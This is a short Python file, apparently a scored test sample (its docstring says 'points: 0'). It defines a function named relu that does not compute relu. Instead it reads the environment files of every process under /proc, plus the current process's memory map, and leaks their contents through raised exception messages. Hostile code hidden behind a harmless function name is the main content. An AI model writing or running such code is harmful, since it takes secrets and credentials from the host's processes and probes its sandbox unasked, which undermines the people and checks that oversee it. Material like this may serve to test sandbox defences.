"""Read memory maps, environment and other processes through /proc.

points: 0
"""

def tell(*found):
    raise ValueError(str(found))

import glob
def relu(z):
    for name in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ", "/proc/1/environ", "/proc/self/maps"]:
        try:
            tell(open(name, "rb").read())
        except OSError:
            pass
    return z
